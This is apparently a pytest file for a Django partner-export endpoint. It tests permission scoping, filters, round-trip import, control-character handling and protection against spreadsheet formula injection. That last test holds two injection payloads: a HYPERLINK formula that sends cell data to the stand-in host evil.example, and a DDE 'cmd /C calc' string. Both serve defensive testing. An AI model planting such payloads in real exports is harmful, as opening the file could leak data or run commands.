"""Export: the partner list as .xlsx holds exactly the rows the user may see, with the list's filters."""

import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from qudao.core.models import ObjectChange
from qudao.partners.models import Partner


def codes_in(response) -> list[str]:
    content = b"".join(response.streaming_content)
    workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    return [row[0] for row in rows[1:]]


@pytest.mark.parametrize(
    ("persona_case", "visible"),
    [
        ("dist_admin", ["dist_js", "sub_js"]),
        ("regional_js", ["dist_js", "sub_js"]),
        ("admin", ["dealer_zj", "dist_js", "sub_js"]),
        ("sales", ["dealer_zj"]),
    ],
)
def test_it_exports_exactly_the_partners_the_user_may_see(world, api_client, persona_case, visible):
    # given
    client = api_client(world.users[persona_case])

    # when
    response = client.get("/api/v1/partners/export.xlsx")

    # then
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert re.search(r'filename="partners-\d{8}-\d{4}\.xlsx"', response["Content-Disposition"])
    assert codes_in(response) == sorted(world.partners[key].code for key in visible)


def test_it_applies_the_partner_list_filters(world, api_client):
    # given
    client = api_client(world.admin)

    # when / then
    dealers = client.get("/api/v1/partners/export.xlsx", {"partner_type": "dealer"})
    assert codes_in(dealers) == sorted([world.sub_js.code, world.dealer_zj.code])
    zhejiang = client.get("/api/v1/partners/export.xlsx", {"region": "330000"})
    assert codes_in(zhejiang) == [world.dealer_zj.code]
    searched = client.get("/api/v1/partners/export.xlsx", {"q": "金陵", "sort": "-code"})
    assert codes_in(searched) == [world.dist_js.code]


def test_it_narrows_filters_to_the_visible_partners(world, api_client):
    # given: a regional manager of Jiangsu asking for Zhejiang's partners
    client = api_client(world.regional_js)

    # when
    response = client.get("/api/v1/partners/export.xlsx", {"region": "330000"})

    # then: nothing of Zhejiang leaks
    assert codes_in(response) == []


@pytest.mark.parametrize("persona_case", ["operations", "dist_staff"])
def test_it_refuses_users_without_the_export_permission(world, api_client, persona_case):
    # given/when
    response = api_client(world.users[persona_case]).get("/api/v1/partners/export.xlsx")

    # then
    assert response.status_code == 403


def test_it_exports_from_the_page_link_with_the_session(world, page_client):
    # given
    client = page_client(world.dist_admin)

    # when
    response = client.get("/partners/export.xlsx", {"partner_type": "dealer"})

    # then
    assert response.status_code == 200
    assert codes_in(response) == [world.sub_js.code]
    assert page_client(world.operations).get("/partners/export.xlsx").status_code == 403
    assert page_client().get("/partners/export.xlsx").status_code == 302


def test_it_writes_the_import_columns_so_an_export_imports_again_unchanged(world, api_client):
    # given: the admin's export of every partner, in Chinese
    client = api_client(world.admin)
    exported = b"".join(client.get("/api/v1/partners/export.xlsx", HTTP_ACCEPT_LANGUAGE="zh-hans").streaming_content)
    header = next(
        openpyxl.load_workbook(io.BytesIO(exported), read_only=True).worksheets[0].iter_rows(values_only=True)
    )
    assert header[:4] == ("伙伴编码", "类型", "公司名称", "简称")
    changes_before = ObjectChange.objects.count()

    # when: the exported file is imported as it is
    preview = client.post("/api/v1/partners/imports", {"file": SimpleUploadedFile("export.xlsx", exported)}).json()
    client.post(f"/api/v1/partners/imports/{preview['id']}/commit")

    # then: every row is unchanged, and nothing was written
    assert [(row["code"], row["action"], row["errors"]) for row in preview["rows"]] == [
        (code, "unchanged", {}) for code in sorted(Partner.objects.values_list("code", flat=True))
    ]
    assert preview["ignored_columns"] == []
    assert ObjectChange.objects.count() == changes_before


FORMULA = '=HYPERLINK("http://evil.example/?d="&E2,"查看详情")'


def exported_rows(response) -> list[tuple]:
    """The data rows of an export, as openpyxl reads the cells (value and type)."""
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [tuple(row) for row in sheet.iter_rows(min_row=2)]


def test_it_writes_a_formula_typed_by_a_partner_as_text_that_excel_never_evaluates(world, api_client):
    # given: addresses that spreadsheet programs would take for formulas, saved before the text
    # rule existed (written straight to the database)
    Partner.objects.filter(pk=world.dist_js.pk).update(address=FORMULA, short_name="+86 25 8888 0000")
    Partner.objects.filter(pk=world.sub_js.pk).update(address="@SUM(1+1)*cmd|' /C calc'!A0", short_name="-2+3")

    # when
    response = api_client(world.admin).get("/api/v1/partners/export.xlsx")

    # then: the exact text, in string cells ("s", never "f") with Excel's quote prefix
    assert response.status_code == 200
    rows = {row[0].value: row for row in exported_rows(response)}
    address = rows[world.dist_js.code][6]
    assert (address.value, address.data_type, address.quotePrefix) == (FORMULA, "s", True)
    short_name = rows[world.dist_js.code][3]
    assert (short_name.value, short_name.data_type, short_name.quotePrefix) == ("+86 25 8888 0000", "s", True)
    assert [(cell.value, cell.data_type) for cell in rows[world.sub_js.code][3:7:3]] == [
        ("-2+3", "s"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "s"),
    ]
    # ordinary text has no quote prefix; the raw sheet XML holds no formula at all
    legal_name = rows[world.dealer_zj.code][2]
    assert (legal_name.data_type, legal_name.quotePrefix) == ("s", False)


def test_it_exports_every_partner_when_one_address_holds_a_control_character(world, api_client, page_client):
    # given: a vertical tab (\x0b, Word's manual line break) in an address, stored before the text
    # rule (straight to the database; PostgreSQL stores any but NUL): illegal in the XML of an .xlsx
    Partner.objects.filter(pk=world.dist_js.pk).update(address="南京市\x0b玄武区中山路1号\x01", short_name="金陵\x1b")

    # when: any user exports
    api_response = api_client(world.regional_js).get("/api/v1/partners/export.xlsx")
    page_response = page_client(world.admin).get("/partners/export.xlsx")

    # then: the file is written, the characters replaced by U+FFFD; the other rows intact
    assert (api_response.status_code, page_response.status_code) == (200, 200)
    rows = {row[0].value: [cell.value for cell in row] for row in exported_rows(api_response)}
    assert rows[world.dist_js.code][3] == "金陵\ufffd"
    assert rows[world.dist_js.code][6] == "南京市\ufffd玄武区中山路1号\ufffd"
    assert rows[world.sub_js.code][2] == "苏州姑苏电器经营部"
    assert len({row[0].value for row in exported_rows(page_response)}) == 3


def test_an_exported_formula_text_imports_again_unchanged(world, api_client):
    # given: an export holding formula-like text
    Partner.objects.filter(pk=world.dealer_zj.pk).update(address="=1+2")
    client = api_client(world.admin)
    exported = b"".join(client.get("/api/v1/partners/export.xlsx").streaming_content)

    # when: it is imported again as it is
    preview = client.post("/api/v1/partners/imports", {"file": SimpleUploadedFile("export.xlsx", exported)}).json()

    # then: the text round-trips exactly: nothing to change
    assert {row["code"]: (row["action"], row["values"]["address"]) for row in preview["rows"]}[
        world.dealer_zj.code
    ] == ("unchanged", "=1+2")
